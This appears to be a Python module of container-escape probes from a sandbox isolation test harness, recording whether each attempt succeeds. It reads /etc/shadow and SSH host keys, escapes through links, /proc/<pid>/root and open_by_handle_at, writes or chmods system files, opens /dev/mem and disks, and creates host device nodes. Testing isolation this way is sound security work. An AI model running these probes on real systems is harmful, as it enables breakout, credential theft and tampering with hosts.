"""Files of the host, and what stands in its own file system."""

import ctypes
import glob
import os
import socket
import stat
import sys
import time

from attacking import attack


@attack
def read_host_files(event, report):
    for path in ["/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_rsa_key", "/etc/sudoers", "/boot", "/var/lib/dpkg/status",
                 "/var/log", "/run", "/srv", "/mnt", "/media", *event.get("files", [])]:
        try:
            if os.path.isdir(path):
                names = os.listdir(path)
                report.escape(f"{path} lists {names[:5]}") if names else report.refused(f"{path} is empty")
            else:
                with open(path, "rb") as file:
                    report.escape(f"{path} holds {len(file.read(100))} bytes")
        except OSError as error:
            report.refused(f"{path}: {error.strerror}")
    for folder in ["/root", "/home"]:
        try:
            names = os.listdir(folder)
        except OSError as error:
            report.refused(f"{folder}: {error.strerror}")
        else:
            report.escape(f"{folder} lists {names[:5]}") if names else report.refused(f"{folder} is empty")


@attack
def find_canary(event, report):
    """Walks everything that can be seen, without following links, for files with the name that a test gave to the host's."""
    name, seen, deadline = event["canary_name"], 0, time.monotonic() + 20
    for folder, folders, files in os.walk("/", followlinks=False):
        if folder in ("/proc", "/sys"):
            folders[:] = []
        seen += len(files)
        if name in files or name in folders:
            report.escape(f"{folder}/{name}")
        if time.monotonic() > deadline:
            break
    report.refused(f"{seen} files walked")


@attack
def link_escape(event, report):
    """Symbolic and hard links, and .. beyond the root, to the host's files."""
    for number, path in enumerate(event["files"]):
        for way in ("symlink", "link"):
            link = f"/tmp/escape-{way}-{number}"
            try:
                getattr(os, way)(path, link)
                with open(link, "rb") as file:
                    report.escape(f"{way} to {path} holds {len(file.read(100))} bytes")
            except OSError as error:
                report.refused(f"{way} {path}: {error.strerror}")
        report.opened("/" + "../" * 40 + path.lstrip("/"))
        report.opened("/tmp/" + "../" * 40 + path.lstrip("/"))


@attack
def proc_root(event, report):
    """/proc/<pid>/root and /cwd and /fd lead out of a mount namespace when the process has another root."""
    for pid in sorted({1, os.getppid(), event.get("server_pid", 1)}):
        for path in event["files"]:
            report.opened(f"/proc/{pid}/root{path}")
            report.opened(f"/proc/{pid}/cwd/" + "../" * 40 + path.lstrip("/"))
        try:
            descriptors = os.listdir(f"/proc/{pid}/fd")
        except OSError as error:
            report.refused(f"/proc/{pid}/fd: {error.strerror}")
            continue
        for descriptor in descriptors:
            for path in event["files"]:
                report.opened(f"/proc/{pid}/fd/{descriptor}/" + "../" * 40 + path.lstrip("/"))


@attack
def inherited_descriptors(event, report):
    """Descriptors that the launcher forgot: a directory, a socket of the daemon, a namespace. Standard streams and what this
    runtime opened itself (its own connection to 127.0.0.1, epoll, pipes) are its own."""
    for entry in os.listdir("/proc/self/fd"):
        fd = int(entry)
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode) and not target.startswith("/proc/"):
            report.escape(f"descriptor {fd} is the folder {target}")
            continue
        if target.startswith(("mnt:", "net:", "user:", "pid:")) or "cgroup" in target:
            report.escape(f"descriptor {fd} is {target}")
            continue
        if stat.S_ISSOCK(mode):
            with socket.socket(fileno=os.dup(fd)) as copy:
                listening = copy.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
                if copy.family == socket.AF_UNIX or listening:
                    report.escape(f"descriptor {fd} is a {'listening ' if listening else ''}{copy.family.name} socket")
                    continue
        report.refused(f"{fd}: {target}")


@attack
def open_by_handle(event, report):
    """The way out of early containers: a file handle of the root folder of the file system (inode 2) opens anything on it."""
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("inode", ctypes.c_uint), ("generation", ctypes.c_uint)]

    for folder in ["/", "/var/task", "/usr", "/tmp", "/etc"]:
        try:
            fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as error:
            report.refused(f"{folder}: {error.strerror}")
            continue
        report.system_call("open_by_handle_at", fd, ctypes.byref(Handle(8, 1, 2, 0)), os.O_RDONLY, label=f"open_by_handle_at {folder}")
        os.close(fd)


@attack
def write_read_only_places(event, report):
    """/var/task, /opt, /var/runtime, the system folders, the root itself; also through a second, writable mapping or a chmod."""
    for folder in ["/var/task", "/opt", "/var/runtime", "/usr", "/usr/bin", "/lib", "/etc", "/", "/var", "/proc", "/sys"]:
        path = f"{folder.rstrip('/')}/attack-was-here"
        try:
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))
            report.escape(f"made {path}")
            os.unlink(path)
        except OSError as error:
            report.refused(f"{path}: {error.strerror}")
    here = os.path.realpath(__file__)
    for path in [here, sys.executable, "/etc/passwd", "/etc/resolv.conf", "/etc/hosts", "/var/runtime"]:
        for what, action in [("open for writing", lambda p: os.close(os.open(p, os.O_WRONLY))), ("chmod", lambda p: os.chmod(p, 0o777)),
                             ("utime", lambda p: os.utime(p, (1, 1))), ("rename", lambda p: os.rename(p, p + ".moved")),
                             ("truncate in place", lambda p: os.close(os.open(p, os.O_WRONLY | os.O_APPEND)))]:
            if not os.path.exists(path) or (os.path.isdir(path) and "open" in what):
                continue
            try:
                action(path)
                report.escape(f"{what} {path}")
            except OSError as error:
                report.refused(f"{what} {path}: {error.strerror}")


@attack
def dev_shm_and_devices(event, report):
    """Devices that give the disk, the memory or the terminal of the machine; and making such a device."""
    for pattern in ["/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sd*", "/dev/vd*", "/dev/nvme*", "/dev/dm-*", "/dev/loop*",
                    "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/tty[0-9]*", "/dev/console", "/dev/input/*", "/dev/mapper/*",
                    "/dev/vhost-*", "/dev/cpu/*/msr", "/dev/dri/*", "/dev/ptmx", "/dev/pts/[0-9]*"]:
        for path in glob.glob(pattern) or [pattern]:
            report.opened(path, os.O_RDWR)


@attack
def make_devices(event, report):
    """mknod of the host's disk and memory, in every place that can be written."""
    for folder in ["/tmp", "/dev", "/dev/shm", "/var/task"]:
        for name, kind, device in [("disk", stat.S_IFBLK, os.makedev(254, 0)), ("sda", stat.S_IFBLK, os.makedev(8, 0)),
                                   ("mem", stat.S_IFCHR, os.makedev(1, 1)), ("null", stat.S_IFCHR, os.makedev(1, 3))]:
            path = f"{folder}/attack-{name}"
            try:
                os.mknod(path, 0o666 | kind, device)
                report.escape(f"made the device {path}")
                os.unlink(path)
            except OSError as error:
                report.refused(f"mknod {path}: {error.strerror}")
